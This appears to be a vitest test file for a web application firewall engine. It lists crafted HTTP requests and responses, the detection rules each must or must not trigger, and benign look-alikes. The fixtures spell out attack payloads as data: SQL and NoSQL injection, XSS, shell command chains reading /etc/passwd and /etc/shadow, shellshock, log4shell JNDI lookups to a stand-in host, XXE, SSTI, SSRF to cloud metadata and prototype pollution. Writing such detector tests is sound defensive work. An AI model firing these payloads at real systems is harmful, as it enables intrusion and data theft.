/**
 * Behaviour profiles of the built-in packs: for each request, the rules that must fire and those
 * that must not. Requests are written here from attack classes, not copied from any corpus.
 */
import { describe, expect, it } from "vitest";
import { compileEngine } from "../../ext-proc/src/engine/compile-engine.js";
import { inspectRecord, type HttpRecord } from "../../ext-proc/src/engine/http-record.js";
import { defaultEngineSettings } from "../support/default-engine-settings.js";

interface Profile {
  readonly name: string;
  readonly request: HttpRecord;
  readonly fire: readonly string[];
  readonly notFire?: readonly string[];
  readonly blocked: boolean;
}

const UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const getQ = (query: string, headers: Record<string, string> = {}): HttpRecord => ({
  method: "GET",
  uri: `/search?${query}`,
  headers: { Host: "shop.test", "User-Agent": UA, ...headers },
});
const form = (body: string): HttpRecord => ({
  method: "POST",
  uri: "/submit",
  headers: { Host: "shop.test", "Content-Type": "application/x-www-form-urlencoded" },
  body,
});
const json = (body: unknown): HttpRecord => ({
  method: "POST",
  uri: "/api",
  headers: { Host: "shop.test", "Content-Type": "application/json" },
  body: JSON.stringify(body),
});

const opaque = (contentType: string | undefined, body: string): HttpRecord => ({
  method: "POST",
  uri: "/upload",
  headers: { Host: "shop.test", ...(contentType === undefined ? {} : { "Content-Type": contentType }) },
  body,
});

const PROFILES: readonly Profile[] = [
  { name: "union select in a query arg", request: getQ("id=1%20UNION%2F**%2FSELECT%20user,pass%20FROM%20users"), fire: ["sqli-union-select"], blocked: true },
  { name: "quote tautology in a form", request: form("user=admin%27%20or%20%271%27%3D%271"), fire: ["sqli-quote-boolean"], blocked: true },
  { name: "time-based sqli in JSON", request: json({ id: "1 AND SLEEP(5)" }), fire: ["sqli-time-functions"], blocked: true },
  { name: "script tag, double encoded", request: getQ("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), fire: ["xss-script-tag"], blocked: true },
  { name: "event handler in JSON", request: json({ bio: '<img src=x onerror="fetch(1)">' }), fire: ["xss-event-handler"], blocked: true },
  { name: "entity-encoded javascript URL", request: form("u=java%26%23115%3Bcript%3Aalert(1)"), fire: ["xss-script-url"], blocked: true },
  { name: "command chain in a query", request: getQ("host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"), fire: ["rce-ambiguous-command"], blocked: true },
  { name: "obfuscated command", request: getQ("h=x%7Cc%27a%27t%24%7BIFS%7D%2Fetc%2Fshadow"), fire: ["rce-ambiguous-command"], blocked: true },
  { name: "shellshock in a header", request: getQ("a=1", { "User-Agent": "() { :; }; /bin/bash -c 'id'" }), fire: ["rce-shellshock"], blocked: true },
  { name: "windows cmd", request: form("ip=1.1.1.1%26cmd.exe%20%2Fc%20dir"), fire: ["rce-windows-command"], blocked: true },
  { name: "traversal with backslashes and overlong dots", request: getQ("file=%c0%ae%c0%ae%5C%c0%ae%c0%ae%5Cwindows%5Cwin.ini"), fire: ["lfi-traversal"], blocked: true },
  { name: "traversal in JSON", request: json({ path: "../../../../etc/passwd" }), fire: ["lfi-traversal", "lfi-sensitive-unix-file"], blocked: true },
  {
    name: "both content-length and transfer-encoding",
    request: { method: "POST", uri: "/", headers: { "Content-Length": "4", "Transfer-Encoding": "chunked" }, body: "a=1" },
    fire: ["protocol-cl-and-te"],
    blocked: true,
  },
  { name: "log4shell in a header, nested lookups", request: getQ("a=1", { "X-Api-Version": "${${lower:j}ndi:${lower:l}dap://x.test/a}" }), fire: ["log4shell-nested-lookup"], blocked: true },
  { name: "jndi lookup in JSON", request: json({ q: "${jndi:rmi://x.test/o}" }), fire: ["log4shell-jndi"], blocked: true },
  {
    name: "external entity in an XML body",
    request: { method: "POST", uri: "/api/xml", headers: { "Content-Type": "application/xml" }, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>' },
    fire: ["xxe-entity-declaration", "xxe-doctype-subset"],
    blocked: true,
  },
  { name: "template arithmetic probe", request: getQ("name=%7B%7B7*7%7D%7D"), fire: ["ssti-arithmetic-probe"], blocked: true },
  { name: "python template object graph", request: form("t=%7B%7B''.__class__.__mro__[1]%7D%7D"), fire: ["ssti-python-object-graph"], blocked: true },
  { name: "mongo operator in query syntax", request: getQ("user=admin&pass[$ne]=x"), fire: ["nosqli-operator-in-name"], blocked: true },
  { name: "mongo operator as JSON key", request: json({ user: "admin", pass: { $gt: "" } }), fire: ["nosqli-operator-key"], blocked: true },
  { name: "cloud metadata address", request: getQ("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"), fire: ["ssrf-cloud-metadata"], blocked: true },
  { name: "gopher scheme", request: json({ webhook: "gopher://127.0.0.1:6379/_FLUSHALL" }), fire: ["ssrf-internal-scheme"], blocked: true },
  { name: "prototype pollution through a key", request: json({ __proto__x: 1, a: { ["__proto__"]: { admin: true } } }), fire: ["proto-pollution-proto-key"], blocked: true },
  { name: "prototype pollution through a query path", request: getQ("a[constructor][prototype][admin]=1"), fire: ["proto-pollution-constructor-prototype"], blocked: true },
  { name: "scanner user agent", request: getQ("id=1", { "User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" }), fire: ["scanner-user-agent"], blocked: true },
  { name: "ldap filter injection", request: getQ("user=*)(uid=*))(|(uid=*"), fire: ["ldapi-filter-break"], blocked: true },
  { name: "method outside the allow-list", request: { method: "TRACE", uri: "/", headers: {} }, fire: ["protocol-method-not-allowed"], blocked: true },
  { name: "invalid content-length", request: { method: "POST", uri: "/", headers: { "Content-Length": "12, 12" }, body: "a=1" }, fire: ["protocol-invalid-content-length"], blocked: true },
  // benign look-alikes
  { name: "a sentence with 'select' and 'from'", request: getQ("q=please%20select%20one%20item%20from%20the%20list"), fire: [], notFire: ["sqli-select-from"], blocked: false },
  { name: "an apostrophe in a name", request: form("name=O%27Brien%20and%20sons"), fire: [], notFire: ["sqli-quote-boolean"], blocked: false },
  { name: "a price range", request: getQ("q=between%201%20and%202%20kg"), fire: [], notFire: ["sqli-numeric-tautology"], blocked: false },
  { name: "a relative asset path", request: getQ("img=images/cat.png"), fire: [], notFire: ["lfi-traversal"], blocked: false },
  { name: "a cooking sentence with 'cat'", request: getQ("q=feed%20the%20cat%20and%20the%20dog"), fire: [], notFire: ["rce-unix-command-chain"], blocked: false },
  { name: "an ordinary JSON document", request: json({ user: { name: "Ana", tags: ["a", "b"], age: 3 } }), fire: [], blocked: false },
  { name: "a template-looking sentence", request: getQ("q=price%20%7Bper%20item%7D"), fire: [], notFire: ["ssti-arithmetic-probe"], blocked: false },
  { name: "a dollar amount", request: json({ note: "costs $5 (ne plus ultra)" }), fire: [], notFire: ["nosqli-operator-in-value"], blocked: false },
  { name: "a normal URL parameter", request: getQ("next=https%3A%2F%2Fshop.test%2Fcart%3Fid%3D3"), fire: [], notFire: ["ssrf-loopback-url", "rfi-url-with-trailing-query"], blocked: false },
  { name: "a browser user agent", request: getQ("a=1", { "User-Agent": UA }), fire: [], notFire: ["scanner-user-agent"], blocked: false },
  { name: "English with 'echo' and 'bash'", request: getQ("q=echo%20in%20the%20mirror%2C%20bash%20away"), fire: [], blocked: false },
  // Bodies no parser applies to are still read as text by many back ends: one value for args rules.
  { name: "a padded script tag in a text/plain body", request: opaque("text/plain", `${"x".repeat(5000)}<script>alert(document.cookie)</script>`), fire: ["xss-script-tag"], blocked: true },
  { name: "a command chain in an octet stream", request: opaque("application/octet-stream", `${"y".repeat(3000)}; cat /etc/passwd`), fire: ["lfi-sensitive-unix-file"], blocked: true },
  { name: "union select in a body without content type", request: opaque(undefined, "hello\n' UNION SELECT password FROM users--"), fire: ["sqli-union-select"], blocked: true },
  { name: "meeting notes as text/plain", request: opaque("text/plain", "Notes: select the union rep by Friday; cat pictures welcome. Table at 5 or 6, from 1 to 2."), fire: [], notFire: ["sqli-union-select", "rce-unix-command-chain", "sqli-select-from"], blocked: false },
  { name: "gzip data with quote bytes as text/plain", request: opaque("text/plain", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03'#\"# or 1=1 --"), fire: [], notFire: ["sqli-quote-terminator"], blocked: false },
  { name: "a log line as an octet stream", request: opaque("application/octet-stream", "2026-01-01T00:00:00Z INFO GET /index.html 200 512 \"Mozilla/5.0\""), fire: [], blocked: false },
];

describe("built-in pack profiles (paranoia level 1)", () => {
  const engine = compileEngine(defaultEngineSettings());
  const never = { exceeded: () => false };
  for (const profile of PROFILES) {
    it(profile.name, () => {
      const { verdict, matches } = inspectRecord(engine, profile.request, never);
      const fired = new Set(matches.map((m) => m.ruleId));
      for (const id of profile.fire) expect(fired, `${id} must fire`).toContain(id);
      for (const id of profile.notFire ?? []) expect(fired, `${id} must not fire`).not.toContain(id);
      expect(verdict.action === "deny" && verdict.status === 403).toBe(profile.blocked);
    });
  }
});

interface ResponseProfile {
  readonly name: string;
  readonly status: number;
  readonly body: string;
  readonly fire: readonly string[];
  readonly notFire?: readonly string[];
  readonly denied: boolean;
}

const RESPONSES: readonly ResponseProfile[] = [
  { name: "a MySQL error", status: 500, body: "<b>Warning</b>: You have an error in your SQL syntax; check the manual", fire: ["leak-sql-error"], denied: true },
  { name: "a Java stack trace", status: 500, body: "java.lang.NullPointerException\n\tat com.shop.Cart.add(Cart.java:42)\n", fire: ["leak-stack-trace"], denied: true },
  { name: "a directory listing", status: 200, body: "<html><head><title>Index of /backup</title></head>", fire: ["leak-directory-listing"], denied: true },
  { name: "a private key is flagged for redaction, not denied", status: 200, body: "-----BEGIN RSA PRIVATE KEY-----\nMIIB", fire: ["secret-private-key"], denied: false },
  { name: "an AWS key is flagged for redaction", status: 200, body: '{"key":"AKIAABCDEFGHIJKLMNOP"}', fire: ["secret-aws-access-key"], denied: false },
  { name: "an ordinary page", status: 200, body: "<html><body><h1>Welcome</h1><p>Prices from 5 EUR.</p></body></html>", fire: [], notFire: ["leak-sql-error", "leak-stack-trace"], denied: false },
];

describe("built-in response profiles", () => {
  const engine = compileEngine(defaultEngineSettings());
  const never = { exceeded: () => false };
  for (const profile of RESPONSES) {
    it(profile.name, () => {
      const tx = engine.newTransaction();
      tx.inspectResponseHeaders({ status: profile.status, headers: [] }, never);
      const verdict = tx.inspectResponseBody(Buffer.from(profile.body), { last: true, complete: true }, never);
      const fired = new Set(verdict.matches.map((m) => m.ruleId));
      for (const id of profile.fire) expect(fired, `${id} must fire`).toContain(id);
      for (const id of profile.notFire ?? []) expect(fired, `${id} must not fire`).not.toContain(id);
      expect(verdict.action === "deny").toBe(profile.denied);
    });
  }
});

describe("paranoia levels", () => {
  const never = { exceeded: () => false };
  const request = getQ("dir=pwd&path=a%2F..%2Fb");
  it("paranoia level 1 leaves ambiguous values alone", () => {
    const engine = compileEngine(defaultEngineSettings());
    const fired = inspectRecord(engine, request, never).matches.map((m) => m.ruleId);
    expect(fired).not.toContain("rce-pl2-lone-command");
    expect(fired).not.toContain("lfi-pl2-dot-dot-separator");
  });
  it("paranoia level 2 adds the broader rules", () => {
    const engine = compileEngine({ ...defaultEngineSettings(), paranoiaLevel: 2 });
    const { verdict, matches } = inspectRecord(engine, request, never);
    expect(matches.map((m) => m.ruleId)).toEqual(expect.arrayContaining(["rce-pl2-lone-command", "lfi-pl2-dot-dot-separator"]));
    expect(verdict.action).toBe("deny");
  });
});
